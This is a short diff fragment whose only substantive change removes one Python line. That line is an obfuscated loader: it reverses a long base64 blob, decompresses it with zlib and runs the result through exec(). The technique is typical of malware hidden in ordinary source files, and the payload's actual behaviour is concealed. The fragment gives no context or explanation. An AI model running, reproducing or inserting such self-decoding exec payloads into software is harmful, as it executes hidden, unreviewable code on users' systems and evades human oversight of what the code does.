@@ -1,3 +1,3 @@
 
                     
-_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'6L+2aMw//9735rGnQ89y+O76N4daZwiVh56SJuYAlqlRkDKKSIDalcbNdG5H1fgcYSuIBcewAAQKBgAwEowqazVds2vThfZWaeSWvaAVM+jJp7URmphQUxdbMtxWOHqauBqI65EnkP35MxUrlq9RQv4XJemTbZR8gbsnwPs6cMj8pgo+Gs6ssfA23f37ZToYrdhqwITzmIv7+RLu5vF17r3nfOggXlNyK9o46qRQNQdcLqOot/omsUP+l2wgNfyZpn+3j7yR7tz50aPpcFx1zrHkeHZyp4+GO9yHYUj3jyknuTG2JGHe9BYRswWSH/CmoI7FjDNt5e20x3kVV7FTl8eFqw6wcUqY7LEa253P/5YlvaYB5MQwxvmhR7/Xt4o/jF56SesfMXN3PAOf4UavBv7f3xDMSXyOkheswQ4KBm8WnRdkJaM2meIwcaVAlg6XhESrKrhP8yr7va9pu/8zHZ2sd/ijxtFZgXc8/i2wh6QM3R8gLra+0zligeghxICH6YQTr+X3dwTK0BsebBhntUO+SaMyiVSeDJFR36BTtB1PA4UXWDz/jPmwaeEyxahebQJCp9NyIjVcewS23xSre7OVTdlFmC/tK2DJqbgiJCujkNlcUyg/wcLuND0E12YJInA/hsuQzDharFtvVOPZSST5Kt5NESNrEEGla1YimFoVm2NiEQRrf15GANRLYC+rspqXxG8QBg8f5FQgavFo9UCkFOOI9iZtyiqRaA+iBjIwcVRc1S7hb/52CznncO338CF0z6uHP7hR6lPP8RG8tHACEF0pKg3Ud+PwaN4OLCxgdZ3FMrPlf6bccOSBd675UuJMgIMgpxNlbQh8J0dGFEFAnBtXhEgAdAz3hApYj7opnOBzezRoHanSh/WhgNbs6vlzIR271/3KqRLAAgL29lqdL91lUYuAk8RxQnvHljPJ/awkT+1X90m0MQzJaEnksNvRIwn3AqlVvyoCoBe+x3YdMhfXMERXmI18rKN9RcfMVZwOrbv9rgXjTPE0Yv8uhexJJP67ewf9RsurJV3myofy39eZjFc1uRz5Kk/EmKbsNc+w3tJlc0JnsmqF+uyG6O7J+wdrNebmHkUcP2YKmb6cix7EAZa/Q6XfTFAtv5/LSvhKuMa92eXhpvTVJCQyu7oRCgiTn8c0mP+AmhKS7V58/+tS/Wa0et5b0ZueHFeX5/8vWpu52+YuTmMzJbnS5h6WA0QasyQn9y2+1vAn9/cIYQ9fgOzUj6fqxyv0pHD/XJXeu/TV0V8xVtuFv1Ts7bOrqUBP/2zw+LDsuoemGwmfEcLt52ow4F1KaijM2SbtEeOY80VG2I9EsK75G2Q5RYv+0TO/6xV+iO6sp10U3OzoTnvmZz7dBvNgIzFZlFS5mcKQsJK/VfJ/V/UzJ5SyY4k/eq6LtlI9mn4d1Co+HzY/s4Gdzgz7b8buIPYTXmxK1a2x/kBvgpYB7GoQmPDDQEamHiQO+/lQqoxz0tbus5arvIXyY5bcPn5SSZoDL94jmph8uPvB5Sj2gHUU7iz1AuQI+lSEDckxieN7rBhM31exupVc7GoVSbG9R7KFr71Wm+c1QVcOnvVvfM1umfIBtQCz3kIpThQmGA/Q+yMi0JjwBDBxZwclRxx0myO0HQfxYxXHW/FtCNEtoqCL+O8aDxLlKqVhKMtWyaGExJLEM5C4eAMNEDUFo88fOv83PiN2IsQ++SRxa8egFpPwf6uwb5RqzZhwZ9hMvdQ4CDH9Co6jZTHkEwsAgPj3qz227NbN130AJkEZK8CkT2DRHKGWEd77/V0agXDTWDDcO/0wzZTx+uge6+OtEJqE1FPlIuK8DXZgS3qC6zaDZY3WV//XiGJhC4W+fm5ca8ZZgBy26m7pgRCJ1hlOm/MbKRAKn/zLI/uj+H14wv4w8Pn+N2brVl8NmU1ZBpMRd/nHbrVxumSuw/61d2GmLLgHmGvzt+RFJUku67I4fc68Dp57NmarrjoJD45rCgMgZcMjecAgW5SDebq8C3PftechXkEONb1B/GJhy8DRJuryOarrq0oXMwFyB0VLd8GzQcITUyPeax4NxwpC798aTRcEbc8fCCPIe+Y66qhIwYMvZuG5kcpbWD2okCCGHVY6dpD+3gC3vHv+PPf3CyYKl3GWLjgqAm81WfC7MIpZLRcLEKGK5u3NrTuTWqCyKNmsO4/1E46rjyzSfGJF4HvmfIcN9irDYGuipX7M7Si8TzbI7g+DxpxKQBg0noyUy2oOiiBmw1Olvq65T/wCVbu7rXHO8rvQngQAXFljT0RvUZrxViQWQGca2gf7WXky/f6kyCZ5M68Lph0qFsV2VqP0RNUgztG/ZCfsbItbX/3xtQQLNvlfo3U6WM0umny4T5BdbNEOxmrK+50YGIAKJDvvqyH0wXWMs/eDjnR46dLMneb6TBnhdQDGNvNcyc9dfaxH00iliD/xu0VuTi3agR0FU7Lf/rd+wqn0Kd8P3BHet/6T+Y8InNp9FxcPd0iAIaSKqzyCDe6RA7lpNyQtKKRk1jidrBz4Ps+4H9+w+KiXbfJzVyBGnlVkIgcp2UZ7bMsXQmSWfa1Q7UGm7N1XdB6rqbc4CGem/eQ7sYmVf5Ko6LfjKf/t00BhFls/ijMYNbWmFZF0RDRMVs/zCIKrdvWW+8Vs41Be65l52SuaSZvudhbsOVaCZX7KqSctK9E4Q2Z0jgZtg3wHtSg1YA9dxw3nBK4BXZePu5PuniDtvHkgIk29PZXtPHrqRs/CIN0zKbHQfxQgQqpXZaKTGRu/6CXcCM3GIlFysVUssYos0XJ41q+fNGPPMzoUupFjE65xxOVknkFgE8eYXtpycNTsjUW6gAsNmqud73BTbyoFrLGh+cQcxojVVe79fT95t59Dprk3XTZ9N6gQSZKy1jYqYSaKOWcAMBhbDToeF6EXlkexyyO8f6KPFyb4U+j6rPJBL26fzwNiWnyp5NDQr0wSxxmIbdd5nYVisn8J1RyS7hDrwcriwRPwOzP1kLirkGvlwB00ZFO8FAUyT3UerAAjDT+IjPvfoOXWIcBXUZXjP9KNwip+ky5PoC8M/NLcRRXV2QBMlBXZC3P6IPCbn7SWotoGxV9yJafbgkKL7XeEk5rg14cqlLFI/rkgQuKsCvS4uBRMnsHwHl/ftCCyW3vGFkt1xsxRVvtMMMBQU+d150a5J03iMQ8504Ot6G+KsmjS4e32yYMbfqIbkczaYcmABraMmQOrsoPjYafpMI5YUa33CJN4GEvnHibB5Ek6zs2CoQvdkwSqq/CnoGLJwXc5ETakZf20BZigSCkFOM7L8IYyGV+SNROAyKbzwmiNS8Gjpe2vhZHEGYb1rWD5gKVrkeqj/HrS/ABZEhGC9JtrFv0zgtvonhw+ocId7kc3TYaPg23U58BBO4rhR/G7k2s83gIGgcFxlZtn0rIl6Mgt+Yu2x4Th1r+Z3UDJgSmW7WwA0okO9MoZw1y0iTbnAvg+0SwRbCEU2r/pQbr/15CWhzmGimoQsdc1qCoL4lARqCkLEx1236YOhrhnChoXd67q24h1KVB5Qdp5eFJG5bRoE/6pXdAzx8XA0X05m90EiXzeUK5/Ro57nw1XkyY9TxajmLFM4uWMaTxRmrrH0RUkBssigzOXL3m+qxSy8AEzr/57bMN0xGf1mqPLKYLYtWMCnWkgRp/gJNLxBs9sRvoa4IjmuJDzy1MTCaXtsEKCYkcxL1mTpFerdhAZp0vIfyTU4iPgD8ljuwqbARSdgGP6fn2IWtrsgIYML4ijPLMvqw8Jd7oxwzXU5+BaqGU89QbwAk6IPXC+UeZ5R7fIOVjXjuoOiBqY6AsO3/4zHUDMZTKPqVJXcX2lZhTXQ0QmSPQHxT/CkFLKWgIXKcA4Ycb35mLnYnjD7cmaRn0UDEhkusGeQgqC3k17S4i5Z/4d0d2lfKqfsxvlIwe8O0kUZw0SX1E36lClLRuolFqDPWHUi6lDy62YLPaapdFcAIkL700R5SPvA/9Il/rOA+Ik5umbMolxUNe2Yst6uQQ0UqyXwN8fB+2G2WxQK+ho+eWJWfvFsWLFbZwtWN58NJap1ptCqIMbR7qliDgHEZnmkmXEf7DbnkXUYgCXHWjw5y5L1N6EWOwjXxsfJVnjPyZOjzUsO0Lk1kKcc5rV9eYyOoqGr27EOoINDgJEwELuqeesmY7cqy3bljrQIwRw7De7FIcq2491I3QNqF+J1XMKbUFsoUjRs7y/Qz+8NQmJ6aLAcezh5GSfNvIrlyP6vxWkmoYhc5p53I+sGwKn9/+FTOSZGYG8PbjElK2nu4wckeGg/zAm1LNMD+Cy1xryMswArjGzNvZaPxcmvBdBWUYwI2vXbeyx9R9Ne8EIxm/mX21QlD95eTREKh5Cz+mf8MJ04P/snFI3NOm6RZ4S+zirK0wyLcGxYD3SIGzOYJF5aXlWDf2P8GWl7NYT91N3kPk1hM1CzyZY2xRfyrLSXnpzHaHlZGauMbk244utg7BZgT5BWaFW4rx0ZUUEQYMiC6EQzpj1sHJ1G1KPpCoY5zeweb6g/4IHQR3oXAcSJwqr7wI4lSdbVToEA+uJxvqG0B2MH6I+gnM+AnPdds9vz/FBkJVuLjQYmZc4lahP1jsxDxqH+0JJos+0dIZlw28mI1/17e9+hqGIVrn3t/m3gFEoy29GFKIp8f6d9WoKYwBMJCv/ztUrDNkWSkaKp/Xgl5XR1gTjqAmgsJj/9acewxoGlW+TeS2a4IPIqc3JHT0AB5MrgJZVFOa0KfZ4D+UJel3PrJKLGI3VJ2wQN+Lqkt271M5v9QPvFQnlk6eSY64BLIqvs3NnBHClekIy9AqHUTd/ddaRpQ2RDC9eFZudMU9gATa2yGeeZvfLUEpXW3lwM2ZDvF7hHXsTgH9xe13G+GbYG/gxxoUI4hK1FUZmxUlFP+rrfirvJtePScZdLosXejBOIjMMeLyX3cK7kG6izo4IhEuoC8WG71U4kRMxKyZZCqgiicl1id0zt0YhzVM8EejDzrWidqstCr8sqdpMR/YUCd4wg78JrPS83VIRqFrpdY1ujNb2w/RXTAgY9aL7UmVUmhF8iAxnt02zE96I8mCHbwc1gKHAybdqdAeiQD/CZ5IsNkNjicr3MrWn3Oef0WhliqF0yleSvbS+H5LZwfSciiNTz1JPheNE9bIDd/JqIzmWgUl6UsCa2UjCn415k06RGfaRfvD/4bFsbSfyDhQfKFyagwvNvj68Y8QnAH8Y80ISLsL0IJSDG7JJADvthIiq+iNipU1LM5XaJ8x4gojoOboT8aWei7qM5OvOVK5TXU6QyPk7KMK5jo2SPtDUw2+0dx6G2vrp7hn1fPdyypX5+rEU5gNO5g3Bhaylykjje353usR91dvlFMvAd1boMbv2nDGHu7/FEUkSEpkk6/cMn57yBCGDbLB4liPGejOtDca729CPaIRpyqkfceVVwJ0Fpa2n7SKk9nPV8fhAFcgwrHcbWeToHB/nO5YufEEN/NrkXU97lj7r0CtmCgmXoYPD7gSnepS5czQLJ0vCmRvnUMO/stq6SGVisFcwf/x14HtWTToOFBNsfTyxLXrOJFGLvkZGd+QqKp2Q7PIfN9pbw8GnwpW6c8sHFtb2R2FZjP0yfkIqnXiD5c7aOruzUjm8dJkW3wx4qVUt1q7K+qKXUbaBO3NI1475n59M1uHMNmsdf6awVkQzzSiosEbiHKfiRkGZJI0MC5uT1IBwdEECqR2taae5jZbwFnA6y4EMmzy9SHDXIop57byrjJmwLm/eHaCPQT38vVWgRgYH+xEnxKWkVNV/EtLyTVyC1zHrDKLanVJhTvgHerboCGID6r2qwSR8MHDjJgvLWfd5zPGdUYrtc3c6sBadv5YC4Ph1JR8cHJUonZBZjf11snPchwrS5Vx1AurfGGHBD3Wd+oXuNqj+C6RFbiM2EEoc/93WuiEe7zo8ghzija3bJt8MlY1r/CmRtuqkqose+NEFtU7EVkPGpI97C05s8kU4YhZ8gTmPrfJELJB4N3A6EdVySkvQ24jENIqEAQtaWtzBnbl9IPsRogy6wF6fmh8USIYqa4cuEojfHiNEL9XHXpex+P1PyduglM1kknUB16FwtNsTeecp7O3Sf4evVSqHjN4viLWoVmZVC+2U54DnmC2LI0t3cdiKq+KcZRHb/vjigSpzgh7BIoETb0xcmcePdRao++m+BIskrjUHxYCZpz1wH2x8/McEVqcK3TXTl82kUB9gkEKpIWAWmHKVAX/8t7u377Y43+pWWdFcXylAwOmX1HjEtwGoiwgvx16T3BospJH4jNj33uoWJSiohq6ROJJxj9nD8d36aqas9XwieQI4mO4Mu8FRC+MFQppZCGIFv9N05+5qa0yAX2c2OjAYKVP0/wpVTlSHxYaNu4mzIyhGpGJwRAGC9WkIZVeUb3oSUXbGgB+GTEmCN/2hbpwq8cu42ktkrXjm2BD/QLF8bEX09nU3lnzfcUyCtjToolsIwPYw/42433sfRYFijxNj349Pl9LF/QLUX6OhBkM2yuKrxFcmorS+K/BkVvBeh27ywP1Eg2HGnF4LU1YxALckYGIJy61xqIT2A95YsjaDYPSwRmuyGICe7MHC/+AwBNfn7a87UVXUjTf0DytBWDgHaQ3BmKoA998WNJjX+btttD7lD/W3nQoo7m2FkJz6hdYmBzwtHko3BHMNTO+RYpI83qqJRJAc3RcNv9hpxVXzlnmuAncE9hj739I6Ah179NGFZVsnaSAzfzP/ZprL6H2UxFQAWAT6ZwaJckPgaA7vOdnHD31PRqbbd2qgik9MgTXMh4eYn697rnL5iDpHzaihJ03DbfMZyPRsMdp2qjnLfwLXCQqzQc7B7UqoR9RWBJXGfNKvhoK4mzgAVTsNFNz4sz/oqNjuP9ImR9EhXRYUKY6NIemwev34r/Nmd5ScKR9ooxO9s6mCBPrCGDgi2X9DMg5mZILp0xvUF5jcuS1iOcA2E+d3OrDApNQWJLuAIXJewyI8CzuiEYUPAofJv1JYBiDwvRMbLWquCiOvAXlK+kWfNKDRDMQOkjbscMBQTswvlwTxdEfP+SQxtDMZC1OFEWOHusNuimzkNif6FZrchXkBX5R3CZk7lSa8NURSCJgMe3oiGXU0hsN+RmPENGvpGREO6guBn2NmymMY2HxbgGpc3NTlxO4HNsHmLWWSDLbfZebtJnPFUuNUz8EHGYT4GT7rmjat6d5zyxguAWLBeeiEfJNH/CnTE3khQNQK+68wQPTl2LIk848qKJ4uo4uf1TdMPQIiYjyuxXFxkw8PEGOnHXXtahuq9WkoLAcBeEFcBpk7Zc1xKeemV+VA91PfYb2qBmkcQt9Y4OoOlKH5ZKX5fRop4gJUFBRqbyp6gWYA3up6PvgwPwAzgcPvDdHggxPdlHcRSoC7ReeRf59ZyV8qDtMTMUecIH1BFlbu7uN8uhHj9Pc855v9v470FlQTLYOoG7APufu6uzfKPPf+A0d428XwjGKenUuurieeqamNmNpOdZ4GuDoWCMwe29DMpwr8Qcs4TVbT8sHQxfuBkGx5WS/sVxPWrSS68NfUk89KV0MM4ipDFN0TSsoK4ZqAsT0ChN3xQRYJ7A1epD1TYNTNtALg9teXR1cSAhUOcNFLEBFc4x/AaVwU06MxtQf0mp0xRfjd6qrCegG2Rj579HT6p/DhKILAsr/IVjv/XYfdQN3/P6zsWw9t4lfxSLGpZyd3CLq5q/d3J5nLXAOf8kcqWNctIRhh8TyRjpbis7nrFFwMnc6KXHTyedrnYl89vebast2fIbT0fzZtTaYk5Crf/xsWyxBXZN/U1OrTA7RR5e0T+fxudnw7X37+UiVSkAV1RlBovQbNcAGUmXa2IyILwJcs4Vhcx+BwFlUVpx6MTqJEXVGaK0xGaB4n9v833qt2jkFiYwO78+/+LPolvxPH5YJZyd1apPOMm35PYRqdf8GNothZqjEdRwU8nS1ZLkdkOfbGC+EB9E2XCcbw+KBIn69Re1OJmPqyWOBQxT0aJFvF2NM+WQxnO/HnvqM4BTlJPqx9+ckGpSbkxvIdrSxQ0ci3rOJje+ZT6y0v0+//uTG7CRID38a0M7RI+4wzbdJtfq0UlGxEJ3LxIQlj8lA5CnurtdM8DNYCBQm2Gz9bTZtdF1/936fE59g8wRo2gT/0JzqYhLIw8pvsmZqCuWhNcltFXLXuHnowblyostc2p3BQK1Jyf9XMTvFZtgH+TAqYz/sG6/TCrtGjKawbavUxySxG58IW8Jfdf4lpOd3eKr8xnePQyxOYtPlXVi8aO1cJNfzbxMXQDnWXWtrpFox3/Odu/IwZaRc27n4Ak74RN6FQeT5RP0+ucCgey/52rtWgl2nTnUAn2QqDelmM23AX3Yfpgtto3c69/JD/lDMoGw6p+lk9s++yUk50kiRxYqUTASDuDR+29hFooiANl4QuDMgc8Z9bucXJ9BWSwaNfP6D5aYoo9CVfHDZNTUELMNbEPB0uCHHUuHhWA17Rkt99Dp0rrwLwh6zth6YRB2zzMiqAlrnlE5tpZR0UnvXMxqFZB9puwJ5EIHGwLMgTJDZG5C3cT6TMR+E2rOS+Uh97VqyPuIAAKq2RGLX6qgbguCEm9hTPZtpquB5hz9fUXS6K7tj9D0kHG4/j5O+9+RpXi270vlknFfGqn1Lx8jHjVUPD6kvDgzC+pbcb1Ba/X2gT2yG7HjuzA9JaNRAvaScUBEpQTm8yXhnhVwwYytzm9YzHtAreVxv0DKuOSdaHvPc5WGz98uql/Rl5TeX/DyUUqFNzXSL3HdL/jWWQQrrifpFXnEdlpptgIDhXP2vjP6pWUrzcA5hEejWbuzEYTRmOiFz+dmyz8zU/EWHi0MTH1JjvPgB9dORkghQPcOjcSJk4XEs4Y/giSTU5elE55qVzuGX9LuFzHX1mMKDLFpg4VZ4OOGMabRnnYfcwt146Bv5AC+KB1hD90snXZprazlQBskn1Y4jbf8sJfWIjnZb9s8FQNJhT/72zCGj/tM8tgT7TodccJjYvy29Ih2rvrshs+zt1OLzNS3LmwVJsD7QKtWwFXUqVRrAKgxD1xSFjAIfRqnWeW+t6Gdw3SdvAX67PyVO8h1dJjICTsiQ8XoouvqD2aw3b5Ak6xrYxJjTkS5qYBVvNL+IEeJYDECDtVZF0s7JgNBBXSrFdpmE1/owhTyFyYsnXtahPbgRl4sUyKknFNaPiJDJv/anwS0JvE09+DYaSMGg2vAYUyXT96X18NQLuEv1Pl88Po3nlJZA5UgMxt0lf1DkVjUYFXktDuMUPP80qXg/LxGydwLBoJ3f2ejII9KHlsJmGf5MHOwZsxupoGB0g44mWa6z8f592V8FFKUu5cN2LaiXsZ1rjF0NwbQY6E3f1pBNkGGfUll8dtwpZAXeWeiVbcn4BVthN2gya7f1zYSWQq/nXnQ8xR0arRVvfsFehleduQaO/0HYkC5C6+11WifM34f3/pH4IuAEjTzzz7Aqy4LcvXJS+mRAvtFT60K62BqY35L2uf/g2c0GREIS6ut2nWKk04fiFWF2PqUQPj9YfIhPzN9f67lq+USG/h1wX71SVWR5hATn/6td2M1R8nHfxZ4mYTcshuEHZhhsATsR4bhL+42MQpbR5Kj+cxJ8NjFmZU3zlUIYhReFNdEXSqFBWjfuLmaSWxM3e8HaNwvMVYv/SKJwQP3Hm90u7FvjHl2Bs9tCt6hYrcSBLi0DLZ5y8m8ydVKFiHeOkK3uvFk+TKWPu5qVBL+jjAgFzZ02NefkA73Wl/+HabgMuNeytgqEvm9Txtqnpl+nWpjkLispr5MLX4oip26w/8tco8nUvC0mt4A3m+NnmdZAh/vgU+cQw5TIzn+kiLThyT2QsXxeyshZDfN2eqtY7+4hFVLw+H3tCV/gsgVHqCOlKRjnZzu3+aZwl8OhN9xKqp17W/6K6iZgh/ey7wKfAQ297UhoSsavQMX0+NZRypDO0QU1OtGFGQdqBkE1y38OczfXR4MCqXK47nWklw0rnFzzuJq2QAqBUH60OK0Lod9du9liUw6A/56Uy4L26UOrK+Xgy/jWFQkoUwu1NQrkZUvP5q1HUYvDUkPda8J9t08ADnJldqWMcKWVylHtFGU0VlFC+r6B1Tsn83MxKKNoTl8Ox4yI1kDzilB//RPZvNypRVXtF79piAgwJPjgr3rNg4mpp8elvrzBw07EXCRLviR/NZgVpkguEnl8+1MPz/LWmqMoCpvFGBNmlXdbdcjluFVHhGMo6mtza457wSyV4I/I1rBMAJtxDJPchmhhNfeq8I8fwj5O+OZup9bjb/+KepUmxpOFU+ZLWMsVJaGfPVMclaYxNVbOttPsGz5mHo30K1E6FTT1Yr817mY3FpY/DqZplrztZLUOKjwKFwklqUGF3wwUS7jA+q0jdsiF0puVM5e7OA6PufM8tkt6hQrAvIWjQdCUEmGsRNDudNiqOpOZlvWO9jZNEE6UCpsNDYf2d0LNAkuWiOG9Isuq4CvC4HlMlSw7837L7o3xnuQmi3KdV09q+yxGAuXCR6voxLXLxqTy9eiU7vHYiSV+4FZNzKeT8uiAXoEwChHLyLEq44hyXByY6xoCIpuKKk2PcxI26Y/Gtgx+wbwh1ZrZLhlKqFSamOutGxhjyGG8cr4HOeGjGphGCasID4YsPbEMp9JdpmAzKMsoXZ7xAz7XzqB2wk86wvgtv8R56zUJxZ15SkzzFqmVb4Cu0+pCDc80Rz8EI7ZCn4oZDPC6jot2GBsDwVA3m22LR8IKm5W5t+pgm1MwI0ZwXayoD323FNT7lJ3bMYtVlVETnK+SHE7gZrJ9oDJ1gf+LKz1YugRfyWLMhAusd5+QSnIToHYbdvq6dREowj4nZz2B0Evt/rkycl00W03RL3BT71YcCMwRk7V6EFU+4NJRJf4xvGHj5g11G7r4iPKQhA044qS6EM375PXXhRD/ugb2PSU33vAOAol38hhOMfvMMqcam5k8fBDZ+lnPNZTqyrid4qfzcTly4CgTHKgK3uvCj7CuPnrMWcMQYh+/9XS5v1rorTHIenXa/ZHD8qGiNXMY+nPu7MI7SITS6wOd/ARyp7TCZluk9pJRHNBqz+ioaTnjQTIFo/nnztrNNrH6AelMSkvSH9ePcGBO3Vv6uRlFCm9hEHT/TFm76EU5kcWcpEZ1QRkDaIvPDsXBqDb9gLltFfxFeCn91ZNOQ+SgJpy/0xppVcPlJIaADyuEOEH+OVbfFJOhNYCqX95BZ5PLn75pVNMKyxlgyDLxjoqCj/4SkbH2tBWmB8aWPh9HBvqUMgijuU2gIcBOxVMCXpC4Si3XJ8dMooo7WASF2TWmOoB8UoHZEFsjdeNze7bIdu6MNTbBwpog01zQpRfijUuSgmhndU4aeK2+9czW+oL4cq+/EX9uVxgsPl3XULElgF6+NLH9hSEQXeNqAk7ugrVS7MXtt6+FBXuhK86nCIY8Z/agFljiFkviZViZ3W3ukUyNH6F/48RhBWcjEt51dAaFdjHmihXBXwtgvtXbTb24vKRi3iYw66PemgEKn577ITVvonyxHd6TBFO4VeAeFGqs7ojKZ1fPOjw5M+9jIzN1GF/5AbZ4vp9z4duvrexJc+ncQHhdmXUvBuDQyJ0x5YzbI7lY9ey4XoKxucCSROy0HVPuVRMDH1y/CXylipNjvYtrF+E7CKo0tmEtC4jB3WNt0vHMq7DLPvpNeyxgWYQsEl4CRwr+1xmCVltCYkXFUCQD4g+wHfFtdVV/nvIeuIimp3YRup6Xy5INeQq4TC55vECpm1B9NFHf7fz8Jo2HqCvKKe13Fbksz8BT9HqUH3ttit0UDuMChdMhPgYUFi4C8iz8TNIOP6Q9+4Gbu/1HVfooz8hO0ElXIz5kmgAq9hgbWCXeUc8d1dFJ91H4rLUnnJxgHqPHsSBuPsmz3jmOH3P+EZYAlzWlmv3lUa0vljZ4NacGpFAgQfC2S2+MB0Lrk4Mc39ybQXMofOH/WIM+Q7HmPIL5fl5QvalxBwmwOxn++VpCMHV05yqB+URhZqGBredYb3SbVDEG3hLxOPw394QLV5JYqRCoQe3yGIqtHxCqu8VhMtozSmIF/DX2xFOygLN+zLAnB+OKzPVe0wxDYo00ud3eTefZSEqlsSb+fEk+pSbR/wg0ARaGlAufE+LUzOkkov00vNkFXpdUqqmUUGaDmJX1f9gcBIzYNITpwhWvC/JKZgG783MA5a82xcCWiHRaMgRNwyBlWM+hQZ6iCyU7Hm5CyFNKn6JWTIkCkW5JRpvv7PUVgB2lSQL1cccsHYV09bcLXmgwka6LsI8maaxmxebstxp9K+zyU5VrtsLuM3IxTBKwc3XmgeuhRXNDgcB3ik4oyaTWlxCfs/SgpGTUGYhRUKKBh2XfE+FhiXS/JEQtrazLMy82BcMXPmMYvrHa9jsmX3nb+cVQGFobfWoK3jRWmbjIo4rP/uCvbe1bvvQKjWrsxPD9Pj+SOCdu+xvu8VOSir54A2QkYkWY4ThIjd89EMErbjzDJD0fE6gRmdfEEoAjC+iyIDONzC3dFsV5ByvYKED4cCk/eoyQyWnde8Jvhnoc/puVK8THLh7TifRDjjov3tRZ5+05A4aDFd57sIwtCytCJ4/KAvQbxVB/jTMgYxIrwCJT8XB3edSxj7CaBrS6wCuTQWVeDy3OiehzyrR7q9wPdflEXmutK0JBLZZKReb9QpvC0Csqezdf0kfNPx9Xd74cHdZ7CC7dZfKkujF0ctQZ3wzNwWcmj6RHzC2HU3DIv9zW0QHy/2vOLkEbSwiqlHpwbjDvOlWkXQA48FHMkPnImPkD8Zv2KNwn6zvYwKWtDGrqCC9IdXz0tAN4nGONJneM9sA8BUV+vQhCgTGmdRvwp4cMVztwAvTruU/8sy4uEEdwPKhqJ7rNRPhITPzMaVoZXQAjJk6PrFWa+6k26dgCav1iMw1ea2C+TBgsZX/EL45jIH+8i8s365voUM0eBjrqdaGG+SSrWeFj+loto3+ztH+JGrPm/VJ/7qWSk3m21/TshnHvnnm3+ECT7c35ZNzhBIkWoKklaLG+LekY3GZPNAgn5G8+fYMa31IV33k3nSX2xdCmP/RFqXMUaV1U6bBneWyi1A05XFdlQU68P4BBiAdFym+eChsgwaW2z9ZHBhx36iDYq2bYCL4tJ+TvJcehxlpiLXi8xGImnNkqN6Ap1EBFNRDGXDPzNjY0kclJinoGzGbBU+6uIVNP+648UjNvAeYUBM2CzAHls1oagKCjo3TiFJYTsmiOz+yt/s8M84aCpmwcbnKu8zU/LBul1Txs3Un441gX9fMpGK7ynlMEgM0fgkJA8wMUiQb8oKra9ZW1v2NvafrK052az9fqlwbXd2TpyPVMYfPAPnEaPlkiqgPRh6xFAiatW6hZYrF8JTDXT/5KoUl1VGQlFmeU21xtExL1msyrMalGieEII67/u4I+LsbxHePIFNNz0UkOlq9nV1u27F4XQIgJWCrjbDHp5v8Ym5f1eY/E6yzcSsKck+d27NLZJPxbbcN9PIdDjhqrhypcv23a85ozv7Z4k8L8AV8bRay9u+Mz5qjFJ4ffw818lk64qlHhG2myQhcNwQywY8svfRXQ5lDbeNdA47/5MrHCN/800fwahdyonAzUyPgiRNxK8PB8t2E3xuw7uOLsqgBFmxaepVD7fZcS/USHuYkbc/s1Jjb25xxLWm2HBFCnQ15keVLyHZugQ6VE2SC1bsbmCUiIl2LTDojQ1oEmmd4Mq8+OYA2NxIzE5q5M/UO7Ag92lJSTTMCNYC/fdoQhaBL14DYeMbrm0OxLHgG2FoIq67YUrshRZGlXW8cXJt+3SSD7K1KgZDQic5CSWVN09eCW7dsOSwWnz8cNH29xAFu060QIrIj+8TdIdEOqiKjofQEiUWd3ysuaI/w148s0+3cferCCk25Fwndgne3S8zBKef7s251dfXBq3otIY+wh1YUEd/9exbSCGvSzkc/MNDHEfum/qnEF+Cx75cMwim/bfQ+hyPVek1o8lB/No7HjBlPkLGVHXCKBcwcb0G7v7aLNkI6Kr3wskvUTIyqGBje2kHCpGbYyQObcb6rxsqYWaEMtZ1wi3wmRvtdkHf6hcNwJQxumxo8jeK76hqPKlJcnn+z4ERc//QsjAtuYSAmDwdZdUVxsNhzvj07mWv3jlONWLWzBzkgEQWgGqfCn/P18mkKWO44OfBZEzi3zv0GXHupE276i6d8P6IPv/SNpq1Igs7fE4uVDdWM8evOMHQIysoqFkU6Te4WffNVCkTUkPn/gF3oUUkfyQ3NyZoQ1nTwqHO9MxBuIc421wE7DXgPsAFef+RPfDNh/M+AM5P4RzhiS6+Zi2EFwHgiG2rXzxvs1+ipwDbhs8RinySLzHwkSLKLUCjJiIjyV8pw+BJtlULdADEhlXfdZIf5jMLPZv6+W+rpya+0oHYrQH2Koii0MtWwcYLtKhzs8KDP/MxsSuG9/CtC8bmOrJgBB5m90TM6n2T7hWejWbM0IE/Xcx4Suw4l5Pl0nI/ggxkKRbXwtHthgE37sovQh+Ki/6PtzXsjcC8UlYbOkAa7oHQZh0L3HUvi6+MCP4O8sxI7HQMOEEJU0LOOK5FH0JMo2npO2x8+/xwfKoOtCMcnjTjycpz9yahYvydg4UIE6OyC9VHmzNz2SomT9uYd+iObHuIk1B+MlrN/8VMCmQnc82JPATqKa1IYHxU5Z2n5kB97VGr+T0I965bi7HsOVXMUGfEQdZdDhAaLVOvgsx1tcny+KkZdXvLPFtamUikD4a++FVNPA9tPSsD97P1cR+BL17qF24MCKvPeI4r5gzU0TBaTW27EwbkhOC02z3nYbGMEEI1w+7AQ9sADCBywyFNDoRAsu1e2Wu44R2cYU0lhQ4A2MRQTkhv07fyJ8hzmFem8XdscC5TEHqMC86PhwZAK6U8SgypQB6mxc/X/D8lR1P78GqlSVwOb5SkallRWxs4zpQaehY5NgdlB+OSXfac8O1d3SaMJWJ9xRAu2A6PmSZBBdMGX6JjWGCcHJDqRBOZy/0Wpuu91ViGSDM02ntjY/6rjyFj7d+BphLYpjnhywSqWW2sTMLNNFbKPk+JONFO8rDnzrMvXCtAbd/zd8f7+lx9CNydFQ/bYlH9xRYuT1YJS3ReSuD/5WVUfPCi/IvCb+F1nsJ3g54OgNZQmyOkJrOQ+JfPbZSrfW6Nim0Bxg0GzQibVWLGxd3H3fzmDjnAL5HWXj20e26T36MH8nDECG6wk0B+EwaQn3nD4i1U7s2Ruidfo4pAmXPL0zsSiSvIlruWvWfzRmx1FozXBKn1cbF4Wuvfb+t7T+8xZ48S25/Hg2rVxM3xnzrayr3J0u23R+vH63upyvVxfxenYYIvytXJRyfbH/FIAzkfKEnROEOxt+U1Vw4HYh40BvLlNs858Lk7nLAefzi1eBnMDvbAzf241UGDK7si7U+pqfew6uspTKtHKcAfSmjmUgot7HvoVkd8W3ZpXyTBZ4gFrjj6qmCgy0vcscinsc0KpFhIluHF+o5d82q08+YwYHfdCPzTlIaDuQ1kAbjfzc+B7Lw9aux2b+T7dR+wbpMTWz+nC6r/LPNkgkbylvkKXmDvBGVmYdShB+Bq43wjKwKDAS4FC+0YO//kpLocSJtKlc9MACCBGzJRgN7mgcjRKjGqISRbd5WYsS/beobSuqgEQz6vy9TFKxCtkndGwdciQT3Yv+8sENYRvrJCwWE